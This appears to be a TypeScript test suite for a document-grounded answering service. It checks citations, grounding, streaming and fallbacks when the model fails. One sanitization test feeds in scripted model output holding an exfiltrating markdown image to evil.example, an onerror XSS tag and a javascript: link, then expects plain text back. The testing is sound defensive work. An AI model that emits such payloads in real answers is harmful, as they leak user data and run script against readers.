import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { collect } from '../support/collect.ts'
import { graphql } from '../support/gql/gql.ts'
import { holdTimers } from '../support/hold-timers.ts'
import {
  type Behaviour,
  breakOff,
  type ModelServer,
  refuse,
  reply,
  say,
  sendPiece,
  startModelServer,
} from '../support/model-server.ts'
import { goodWriter } from '../support/scripted-models.ts'
import { type Seed, seedWorld } from '../support/seed.ts'
import { startTestCanopy, type TestCanopy } from '../support/start-test-canopy.ts'

const Ask = graphql(`
  query AskForAnswer($input: AgentQueryInput!) {
    agentQuery(input: $input) {
      hits { chunk { id } }
      answer { text grounded model citations { start end chunk { id content document { title } } } }
    }
  }
`)
const Listen = graphql(`
  subscription ListenToAnswer($input: AgentQueryInput!) {
    agentQuery(input: $input) {
      __typename
      ... on QueryStarted { queryId }
      ... on AnswerDelta { text restart }
      ... on QueryCompleted { answer { text grounded model citations { start end chunk { document { title } } } } }
    }
  }
`)
const Resume = graphql(`
  subscription ResumeAnswer($queryId: ID!) {
    queryEvents(queryId: $queryId) { ... on QueryCompleted { answer { text } } }
  }
`)
const SetAnswers = graphql(`
  mutation AnsweringAgent($input: CreateAgentInput!) {
    createAgent(input: $input) { __typename ... on CreateAgentPayload { agent { id } } }
  }
`)

const LEAVE = 'How many days of annual leave?'
const KEY = 'sk-model-secret'
/** Sent with an error, so that Canopy retries immediately. */
const NO_PAUSE = { 'retry-after': '0' }
/** Longer than any test. No other timer has this duration. */
const MODEL_TIMEOUT_MS = 300_001

let canopy: TestCanopy
let seed: Seed
let model: ModelServer
beforeAll(async () => {
  model = await startModelServer()
  canopy = await startTestCanopy({
    MODEL_BASE_URL: model.url,
    MODEL_NAME: 'scribe-1',
    MODEL_API_KEY: KEY,
    MODEL_TIMEOUT_MS: String(MODEL_TIMEOUT_MS),
  })
  seed = await seedWorld(canopy.client)
})
afterAll(async () => {
  await canopy.stop()
  await model.close()
})
beforeEach(() => {
  model.requests.length = 0
  model.left = 0
})
afterEach(() => {
  vi.restoreAllMocks()
})

async function ask(query: string, answer = true) {
  const { agentQuery } = await canopy.client.run(Ask, { input: { agentId: seed.agentId, query, answer } })
  return agentQuery
}

async function listen(query: string, { answer = true, onPiece = () => {} } = {}) {
  const pieces: { text: string; restart: boolean }[] = []
  const input = { agentId: seed.agentId, query, answer }
  for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
    if (item.__typename === 'AnswerDelta') {
      pieces.push(item)
      onPiece()
    }
    if (item.__typename !== 'QueryCompleted') continue
    const begun = pieces.findLastIndex(piece => piece.restart)
    const text = pieces
      .slice(Math.max(0, begun))
      .map(piece => piece.text)
      .join('')
    return { pieces, text, answer: item.answer }
  }
  throw new Error('The query did not complete.')
}

describe('an extractive answer', () => {
  beforeAll(() => {
    const { model } = canopy.app
    canopy.app.model = null
    return () => {
      canopy.app.model = model
    }
  })

  it.each([
    [LEAVE, 'Everybody has 25 days of annual leave.', 'Annual leave'],
    ['연차휴가는 며칠인가요?', '연차휴가는 1년에 25일입니다.', '연차휴가 규정'],
    [
      'May I fly premium economy?',
      'Flights over four hours may be booked in premium economy.',
      'Business trips',
    ],
  ])('to %s', async (query, sentence, title) => {
    const { answer } = await ask(query)
    expect(answer).toMatchObject({ grounded: true, model: null })
    expect(answer?.text).toContain(sentence)
    for (const { start, end, chunk } of answer?.citations ?? [])
      expect(chunk.content).toContain([...(answer?.text ?? '')].slice(start, end).join(''))
    const [cited] = (answer?.citations ?? []).filter(
      ({ start, end }) => [...(answer?.text ?? '')].slice(start, end).join('') === sentence,
    )
    expect(cited?.chunk.document.title).toBe(title)
    expect((await ask(query)).answer).toEqual(answer)
    expect(await listen(query)).toMatchObject({ text: answer?.text, answer: { text: answer?.text } })
  })

  it('is created only if the query or the agent requests it', async () => {
    expect((await ask(LEAVE, false)).answer).toBeNull()
    expect(await listen(LEAVE, { answer: false })).toEqual({ pieces: [], text: '', answer: null })
    const { createAgent } = await canopy.client.run(SetAnswers, {
      input: { name: 'Answering', nodeKeys: ['policies'], features: { answers: true } },
    })
    if (createAgent.__typename !== 'CreateAgentPayload') throw new Error('no agent')
    const { agentQuery } = await canopy.client.run(Ask, {
      input: { agentId: createAgent.agent.id, query: LEAVE },
    })
    expect(agentQuery.answer?.text).toContain('25 days')
  })

  it('is absent if nothing supports it', async () => {
    expect((await ask('qwertyuiop zxcvbnm')).answer).toBeNull()
    expect(await listen('qwertyuiop zxcvbnm')).toEqual({ pieces: [], text: '', answer: null })
  })
})

describe('an answer from a model', () => {
  it('streams without citation markers, cited and checked', async () => {
    model.behave = say([
      'Annual leave',
      ' is 25 da',
      'ys [',
      '1',
      '].',
      ' Ask your lead',
      ' two weeks before [1].',
    ])
    const { pieces, text, answer } = await listen(LEAVE)
    expect(pieces.length).toBeGreaterThan(2)
    expect(text).toBe('Annual leave is 25 days. Ask your lead two weeks before.')
    expect(answer).toEqual({
      text,
      grounded: true,
      model: 'scribe-1',
      citations: [
        { start: 0, end: 23, chunk: { document: { title: 'Annual leave' } } },
        { start: 25, end: 55, chunk: { document: { title: 'Annual leave' } } },
      ],
    })
    const [request] = model.requests
    expect(request).toMatchObject({
      model: 'scribe-1',
      stream: true,
      headers: { authorization: `Bearer ${KEY}` },
    })
    expect(request?.messages.at(-1)?.content).toMatch(
      /\[1\] Annual leave\n[\s\S]*25 days[\s\S]*Question: How many days/,
    )
  })

  it('streams while the model is still writing', async () => {
    let finish = () => {}
    model.behave = response => {
      sendPiece(response, 'Annual leave is')
      finish = () => say([' 25 days [1].'])(response)
    }
    const seen: string[] = []
    const input = { agentId: seed.agentId, query: LEAVE, answer: true }
    for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
      if (item.__typename !== 'AnswerDelta') continue
      seen.push(item.text)
      finish()
    }
    expect(seen).toEqual(['Annual leave', ' is 25', ' days.'])
  })

  it('is plain text whatever the model writes, and citation offsets match that text', async () => {
    model.behave = say([
      '![x](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))\n\n',
      'Annual **leave** is <b>25 days</b> \u202Eand\u0000 fun \ud83d',
      '\ude00 for [all](//evil.example) \ud800【1】.\nWrite to ceo@evil.example [1-2].',
    ])
    const { text, answer } = await listen(LEAVE)
    expect(text).toBe('click\nAnnual leave is 25 days and fun 😀 for all \ufffd.\nWrite to.')
    expect(answer?.text).toBe(text)
    const [first] = answer?.citations ?? []
    expect([...text].slice(first?.start, first?.end).join('')).toBe(
      'Annual leave is 25 days and fun 😀 for all \ufffd.',
    )
  })

  it('is dropped over 8,000 characters, white space included', async () => {
    // The response never ends by itself. Only the length limit can end it.
    model.behave = response => sendPiece(response, `A${' '.repeat(8_000)}`)
    expect((await ask(LEAVE)).answer).toMatchObject({ grounded: true, model: null })
    await expect.poll(() => model.left).toBe(1)
  })

  it('is grounded if the model follows the passages, in Korean too', async () => {
    model.behave = reply(goodWriter)
    for (const query of [LEAVE, '연차휴가는 며칠인가요?']) {
      const { answer } = await ask(query)
      expect(answer).toMatchObject({ grounded: true, model: 'scribe-1' })
      expect(answer?.text).not.toContain('[')
      expect(answer?.citations.length).toBeGreaterThan(1)
    }
  })

  it('is not grounded if the model makes things up', async () => {
    model.behave = say(['Annual leave is 40 days [1]. It is paid twice [9].'])
    const { answer } = await ask(LEAVE)
    expect(answer).toMatchObject({ grounded: false, citations: [{ start: 0, end: 23 }] })
  })

  it.each<[string, Behaviour, number]>([
    ['refuses', refuse(401, `{"error":"key ${KEY} is wrong"}`), 0],
    ['fails', refuse(500, 'no', NO_PAUSE), 0],
    ['says nothing', say(['', ' ']), 0],
    ['sends something other than events', refuse(200, '{"choices":[]}'), 0],
    ['breaks off', breakOff(['Annual leave', ' is forty']), 1],
    ['writes on and on', say(['Annual leave ', 'is long. '.repeat(1_000)]), 1],
  ])('falls back to passages if the model %s', async (_, behave, restarts) => {
    model.behave = behave
    const drawn = await listen(LEAVE)
    expectDrawn(drawn, restarts)
    expect((await ask(LEAVE)).answer?.text).toBe(drawn.text)
  })

  it('falls back to passages if the model is too slow', async () => {
    const timers = holdTimers(MODEL_TIMEOUT_MS)
    model.behave = response => sendPiece(response, 'Annual leave')
    const drawn = await listen(LEAVE, { onPiece: timers.expire })
    expectDrawn(drawn, 1)
    model.behave = timers.expire
    expect((await ask(LEAVE)).answer?.text).toBe(drawn.text)
    await expect.poll(() => model.open).toBe(0)
  })

  function expectDrawn({ pieces, text, answer }: Awaited<ReturnType<typeof listen>>, restarts: number) {
    expect(answer).toMatchObject({ grounded: true, model: null })
    expect(text).toBe(answer?.text)
    expect(text).toContain('Everybody has 25 days of annual leave.')
    expect(pieces.filter(piece => piece.restart)).toHaveLength(restarts)
  }

  it('is completed without subscribers and can be read later', async () => {
    let finish = () => {}
    model.behave = response => {
      sendPiece(response, 'Annual leave is')
      finish = () => say([' 25 days [1].'])(response)
    }
    const input = { agentId: seed.agentId, query: LEAVE, answer: true }
    let queryId = ''
    for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
      if (item.__typename === 'QueryStarted') queryId = item.queryId
      if (item.__typename === 'AnswerDelta') break
    }
    finish()
    await canopy.idle()
    expect(model).toMatchObject({ left: 0, open: 0 })
    const items = await collect(canopy.client.watch(Resume, { queryId }))
    expect(items.at(-1)).toEqual({ queryEvents: { answer: { text: 'Annual leave is 25 days.' } } })
  })
})
